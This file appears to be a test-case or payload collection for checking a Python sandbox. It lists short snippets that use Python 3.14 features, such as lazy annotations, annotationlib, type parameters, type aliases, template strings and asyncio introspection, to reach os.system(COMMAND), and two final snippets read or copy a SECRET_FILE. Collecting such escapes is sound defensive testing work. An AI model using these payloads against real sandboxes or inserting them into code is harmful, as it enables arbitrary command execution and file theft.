# Attacks with what Python 3.14 brought: lazy annotations, template strings, lazy type parameters.

#! annotation evaluated on access
class Thing:
    x: __import__('os').system(COMMAND)
Thing.__annotations__

#! annotation function called
def thing(x: __import__('os').system(COMMAND)):
    pass
thing.__annotate__(1)

#! annotationlib evaluates strings
import annotationlib
class Thing:
    x: "__import__('os').system(COMMAND)"
annotationlib.get_annotations(Thing, globals={'COMMAND': COMMAND}, eval_str=True)

#! annotationlib calls with a fake namespace
import annotationlib
def thing(x: evil.system):
    pass
reference = annotationlib.get_annotations(thing, format=annotationlib.Format.FORWARDREF)['x']
annotationlib.ForwardRef('__import__("os").system(COMMAND)').evaluate(globals=globals())

#! forward reference built for a function
import annotationlib
def thing():
    pass
annotationlib.ForwardRef('__import__("os").system(%r)' % COMMAND, owner=thing).evaluate()

#! lazy bound of a type parameter
def thing[T: (__import__('os').system(COMMAND),)](x: T):
    pass
thing.__type_params__[0].__constraints__

#! lazy default of a type parameter
class Thing[T = __import__('os').system(COMMAND)]:
    pass
Thing.__type_params__[0].__default__

#! lazy value of a type alias
type Alias = __import__('os').system(COMMAND)
Alias.__value__

#! evaluation function of a type alias
type Alias = __import__('os').system(COMMAND)
Alias.evaluate_value(1)

#! template string
template = t'{().__class__.__base__.__subclasses__()}'
for part in template.interpolations:
    eval(part.expression)
def anchor():
    pass
found = t'{anchor.__builtins__}'.interpolations[0].value
found['__import__']('os').system(COMMAND)

#! template string with a format that is an attribute
def anchor():
    pass
template = t'{anchor!r:{anchor.__builtins__}}'
anchor.__builtins__['__import__']('os').system(COMMAND)

#! expression of a template string
import string.templatelib
value = string.templatelib.Interpolation(1, '__import__("os").system(COMMAND)')
eval(value.expression)

#= asynchronous introspection
import asyncio
async def main():
    asyncio.capture_call_graph()
    asyncio.current_task().get_stack()[0].f_builtins['__import__']('os').system(COMMAND)
asyncio.run(main())

#= event loop of our own
import asyncio, os
class Loop(asyncio.SelectorEventLoop):
    pass
async def main():
    os.system(COMMAND)
Loop().run_until_complete(main())

#! coroutine driven by hand
import os
async def main():
    return os.system(COMMAND)
try:
    main().send(None)
except StopIteration as stop:
    print(stop.value)

#! except without brackets
import os
try:
    missing
except NameError, TypeError:
    os.system(COMMAND)

#! finally that returns
def thing():
    try:
        while True:
            return 1
    finally:
        import os
        os.system(COMMAND)
thing()

#= compressed module of the new package
from compression import zstd
print(zstd.open(SECRET_FILE).read())

#! path types
import pathlib.types
import pathlib
print(pathlib.Path(SECRET_FILE).info.exists(), pathlib.Path(SECRET_FILE).copy('/tmp/copy').read_text())
